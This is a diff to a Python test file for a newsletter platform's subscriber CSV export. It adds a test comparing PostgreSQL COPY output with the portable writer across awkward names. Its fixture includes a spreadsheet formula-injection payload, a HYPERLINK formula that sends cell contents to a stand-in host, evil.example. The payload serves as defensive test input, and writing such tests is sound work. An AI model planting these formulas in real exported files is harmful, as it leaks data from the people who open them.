@@ -9,11 +9,14 @@ from datetime import UTC, datetime, timedelta
 import pytest
 from sqlalchemy import select
 
+from saas.audience.imports import export_copy, exports
+from saas.audience.imports.exports import FORMULA_STARTS
 from saas.audience.models import Subscriber, SubscriberTag, Tag
 from saas.core.extensions import db
 from saas.core.tenancy import bound_to
+from saas.publishing.models import Publication
 from tests.audience.test_imports import latest_import, readers, upload
-from tests.conftest import login
+from tests.conftest import USING_POSTGRES, login
 
 FORMULAS = {
     "hyperlink@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -146,3 +149,36 @@ def test_export_pages_through_a_long_list_without_skipping_or_repeating(
     emails = [row[0] for row in export_rows(client)[1:]]
     assert len(emails) == 10
     assert set(emails) == expected
+
+
+@pytest.mark.skipif(not USING_POSTGRES, reason="the COPY export is PostgreSQL's")
+def test_postgresql_copy_writes_the_same_file_as_the_portable_writer(app, factories, pub):
+    awkward = {
+        "quote@example.com": 'Say "hi", then leave',
+        "lines@example.com": "Two\nlines",
+        "accents@example.com": "Zoë Ñúñez",
+        "empty@example.com": "",
+        **FORMULAS,
+    }
+    for n, (email, name) in enumerate(awkward.items()):
+        factories.subscriber(
+            pub, email=email, name=name, created_at=START + timedelta(seconds=n // 2)
+        )
+    factories.subscriber(pub, email="pending@example.com", status="pending")
+    with app.app_context(), bound_to(pub.id):
+        for name in ("=SUM(1)", "retreat", "client"):
+            db.session.add(Tag(publication_id=pub.id, name=name))
+        db.session.flush()
+        tags = db.session.scalars(select(Tag)).all()
+        for reader in db.session.scalars(select(Subscriber)).all()[::2]:
+            for tag in tags:
+                db.session.add(
+                    SubscriberTag(publication_id=pub.id, subscriber_id=reader.id, tag_id=tag.id)
+                )
+        db.session.commit()
+        publication = db.session.get(Publication, pub.id)
+        for status in (None, "pending"):
+            copied = "".join(export_copy.subscriber_rows(publication, status, FORMULA_STARTS))
+            written = "".join(exports.keyset_rows(publication, status))
+            assert copied == written
+            assert copied.count('"\n') >= (1 if status else len(awkward))
